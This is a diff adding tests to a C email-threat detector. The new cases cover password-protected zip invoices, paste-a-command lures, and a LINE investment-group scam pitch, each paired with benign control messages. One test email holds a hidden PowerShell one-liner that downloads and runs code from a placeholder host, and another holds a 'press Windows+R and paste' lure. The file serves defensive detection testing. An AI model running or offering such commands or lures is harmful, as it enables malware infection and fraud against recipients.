@@ -33,7 +33,7 @@ struct sign {
 	const char *what;
 	const char *name, *from, *reply, *subject, *body;
 	const char *links[LINKS_MAX];
-	const char *mailer, *id, *list;
+	const char *mailer, *id, *list, *locked; /* locked: name of an attachment with a password */
 	int zone;
 	const char *finds, *finds_not;
 	int verdict;
@@ -88,6 +88,15 @@ static void check(const struct sign *s)
 		                                          .part = body,
 		                                          .end = (uint32_t) strlen(s->body),
 		                                          .flags = LINK_HTML};
+	if (s->locked) {
+		int part = document_add_part(&d, a, PART_ATTACHMENT, STR("attachment:1"), str_of(s->locked));
+		*document_add_attachment(&d, a) = (struct attachment){.name = str_of(s->locked),
+		                                                      .declared = STR("application/zip"),
+		                                                      .detected = STR("application/zip"),
+		                                                      .part = (uint32_t) part,
+		                                                      .inside = PART_NONE,
+		                                                      .flags = ATTACHMENT_ENCRYPTED};
+	}
 	assert_int_equal(document_check(&d), 0);
 	assert_int_equal(judge_document(&d, rules, NULL, a, &v), 0);
 	if (s->finds && !has(&v, s->finds))
@@ -408,11 +417,78 @@ static void places(void **state)
 		check(&signs[i]);
 }
 
+static void locks_and_commands(void **state)
+{
+	static const struct sign signs[] = {
+	        {.what = "the key beside the lock",
+	         .name = "経理",
+	         .from = "keiri@trade.example",
+	         .subject = "請求書",
+	         .body = "添付をご確認ください。\n解凍パスワード：ab12",
+	         .locked = "請求書.zip",
+	         .finds = "archive-with-password",
+	         .verdict = VERDICT_DOUBTFUL},
+	        {.what = "the key comes in another mail",
+	         .name = "経理",
+	         .from = "keiri@trade.example",
+	         .subject = "請求書",
+	         .body = "添付をご確認ください。パスワードは別のメールでお送りします。",
+	         .locked = "請求書.zip",
+	         .finds_not = "archive-with-password",
+	         .verdict = VERDICT_NOTHING_FOUND},
+	        {.what = "a key alone",
+	         .name = "Web会議",
+	         .from = "room@meet.example",
+	         .subject = "会議のご案内",
+	         .body = "会議室 55 パスワード：ab12",
+	         .finds_not = "archive-with-password",
+	         .verdict = VERDICT_NOTHING_FOUND},
+	        {.what = "prove that you are human by pasting",
+	         .name = "会議",
+	         .from = "room@meet.example",
+	         .subject = "参加の確認",
+	         .body = "ロボットではないことの確認のため、Windowsキー + R を押し、Ctrl + V で貼り付けてください。",
+	         .finds = "command-lure",
+	         .verdict = VERDICT_DANGER},
+	        {.what = "a command that fetches a program",
+	         .name = "IT",
+	         .from = "it@fix.example",
+	         .subject = "update",
+	         .body = "Open PowerShell and run: powershell -w hidden -c \"iwr http://a.example/p | iex\"",
+	         .finds = "command-lure",
+	         .verdict = VERDICT_DANGER},
+	        {.what = "the way into a shared folder",
+	         .name = "情報システム",
+	         .from = "it@own.example",
+	         .subject = "共有フォルダー",
+	         .body = "Windowsキー + R を押して、フォルダーの名前を入力してください。",
+	         .finds_not = "asks-command",
+	         .verdict = VERDICT_NOTHING_FOUND},
+	        {.what = "profits in a group, from a free address",
+	         .name = "森田",
+	         .from = "morita@gmail.com",
+	         .subject = "はじめまして",
+	         .body = "推奨銘柄を無料のLINEグループでお知らせします。LINEを追加してください。",
+	         .finds = "investment-channel",
+	         .verdict = VERDICT_DOUBTFUL},
+	        {.what = "a broker's newsletter",
+	         .name = "証券",
+	         .from = "news@broker.example",
+	         .subject = "投資講座のお知らせ",
+	         .body = "無料の投資講座を開きます。公式LINEの友だち登録でもお知らせします。",
+	         .finds_not = "investment-channel",
+	         .verdict = VERDICT_NOTHING_FOUND},
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(signs); i++)
+		check(&signs[i]);
+}
+
 int main(void)
 {
 	static const struct CMUnitTest tests[] = {
-	        cmocka_unit_test(forged_senders), cmocka_unit_test(misspelt_names), cmocka_unit_test(writing),
-	        cmocka_unit_test(schemes),        cmocka_unit_test(places),
+	        cmocka_unit_test(forged_senders), cmocka_unit_test(misspelt_names),
+	        cmocka_unit_test(writing),        cmocka_unit_test(schemes),
+	        cmocka_unit_test(places),         cmocka_unit_test(locks_and_commands),
 	};
 	return cmocka_run_group_tests(tests, load_rules, free_rules);
 }
